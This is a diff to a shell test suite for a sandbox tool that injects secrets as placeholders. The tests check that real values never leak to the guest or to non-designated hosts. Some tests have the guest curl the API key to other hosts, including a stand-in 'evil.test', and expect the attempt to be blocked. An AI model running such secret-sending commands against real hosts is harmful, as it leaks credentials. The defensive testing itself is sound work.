@@ -24,7 +24,8 @@ IMG=(--image matchlock/default)
 
 export API_KEY="sk-live-$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"
 REAL=$API_KEY
-API=(--secret API_KEY@api.test --add-host api.test:127.0.0.1 --upstream-ca "$SRV/ca.pem")
+# A bare host opens 443 only (and 80): the test server's ports are named.
+API=(--secret API_KEY@api.test:8443 --allow-host api.test:8080 --add-host api.test:127.0.0.1 --upstream-ca "$SRV/ca.pem")
 log() { cat "$SRV/requests.log" 2>/dev/null; }
 count() { cat "$SRV/$1.count" 2>/dev/null || echo 0; }
 # No output of ours may carry the real value.
@@ -59,7 +60,7 @@ t_real_key_in_header_basic_auth_and_query_over_tls() {
 t_placeholder_to_another_allowed_host_is_blocked() {
 	local before
 	before=$(count 8443)
-	ml run "${IMG[@]}" "${API[@]}" --allow-host other.test --add-host other.test:127.0.0.1 -- sh -c \
+	ml run "${IMG[@]}" "${API[@]}" --allow-host other.test:8443 --add-host other.test:127.0.0.1 -- sh -c \
 		'curl -sS -w "status=%{http_code}\n" -H "X-Api-Key: $API_KEY" https://other.test:8443/echo
 		 curl -sS -w "status=%{http_code}\n" -o /dev/null https://other.test:8443/echo
 		 curl -sS -w "status=%{http_code}\n" -H "X-Api-Key: $API_KEY" https://unlisted.test/; echo "unlisted=$?"'
@@ -70,6 +71,38 @@ t_placeholder_to_another_allowed_host_is_blocked() {
 	expect_match "secret_leak event" "$ERR" "secret_leak blocked GET https://other.test:8443/echo"
 	expect_eq "requests that reached the server" "$(count 8443)" "$((before + 1))"
 	expect_no_real
+}
+
+t_reflecting_upstream_gives_back_no_encoding_of_the_value() {
+	# A value with characters every encoding changes; the upstream echoes the request in raw,
+	# percent, JSON and base64 forms (headers, Basic token, query). The guest prints it all and
+	# the host looks for the value in every decoding it can think of.
+	local v="sk/live+$(head -c 9 /dev/urandom | od -An -tx1 | tr -d ' \n')&=\"q~"
+	: >"$SRV/requests.log"
+	RFL_KEY=$v ml run "${IMG[@]}" --secret RFL_KEY@api.test:8443 --add-host api.test:127.0.0.1 \
+		--upstream-ca "$SRV/ca.pem" -- sh -c 'curl -sS -i -u "user:$RFL_KEY" -H "X-Api-Key: $RFL_KEY" \
+		-H "X-Prefixed: ab$RFL_KEY" "https://api.test:8443/reflect?key=$RFL_KEY&v=1"'
+	expect_eq status "$RC" 0
+	# The upstream did get the value (in the header, the Basic token and the query).
+	[[ $(log) == *"X-Api-Key: $v"* ]] || fail "header: upstream got: $(log)"
+	expect_match "the reflection arrived" "$OUT" "X-Reflect-Auth: Basic "
+	local found
+	found=$(V="$v" python3 -c '
+import base64, os, re, sys, urllib.parse
+v = os.environ["V"]; mid = v[2:-2]; t = sys.stdin.read()
+cands = [t, urllib.parse.unquote(t), t.replace("\\\"", "\"").replace("\\/", "/").replace("\\\\", "\\")]
+for run in re.findall(r"[A-Za-z0-9+/_-]{8,}", t):
+    for off in range(4):
+        r = run[off:].replace("-", "+").replace("_", "/")
+        r = r[: len(r) // 4 * 4]
+        try:
+            cands.append(base64.b64decode(r).decode("latin-1"))
+        except Exception:
+            pass
+print("yes" if any(mid in c for c in cands) else "no")' <<<"$OUT")
+	expect_eq "the value (all but 2 bytes at each end) recoverable from the guest's copy" "$found" "no"
+	[[ $OUT == *"$v"* ]] && fail "the literal value reached the guest"
+	return 0
 }
 
 t_placeholder_over_plain_http_is_refused() {
@@ -169,7 +202,7 @@ print("after:", send(b"GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close
 t_untrusted_upstream_is_refused() {
 	local before
 	before=$(count 8444)
-	ml run "${IMG[@]}" "${API[@]}" --allow-host evil.test --add-host evil.test:127.0.0.1 -- sh -c \
+	ml run "${IMG[@]}" "${API[@]}" --allow-host evil.test:8444 --add-host evil.test:127.0.0.1 -- sh -c \
 		'curl -sS -w "status=%{http_code}\n" -H "X-Api-Key: $API_KEY" https://evil.test:8444/echo'
 	expect_match "502" "$OUT" "status=502"
 	expect_match "why" "$OUT" "upstream evil.test is not trusted"
@@ -183,7 +216,7 @@ t_secret_file_get_redacted_and_nothing_on_disk() {
 	expect_eq status "$RC" 0
 	local id=$OUT
 	ml get "$id"
-	expect_match "redacted" "$OUT" '"API_KEY":\{"value":"<redacted>","hosts":\["api.test"\]\}'
+	expect_match "redacted" "$OUT" '"API_KEY":\{"value":"<redacted>","hosts":\["api.test:8443"\]\}'
 	ml exec "$id" -- sh -c 'echo "$FILE_KEY"; wget -qO- --header "X: $FILE_KEY" https://api.test:8443/echo >/dev/null; echo "wget=$?"'
 	expect_match "file secret placeholder" "$OUT" "^SANDBOX_SECRET_[0-9a-f]{32}"
 	expect_match "request" "$OUT" "wget=0"
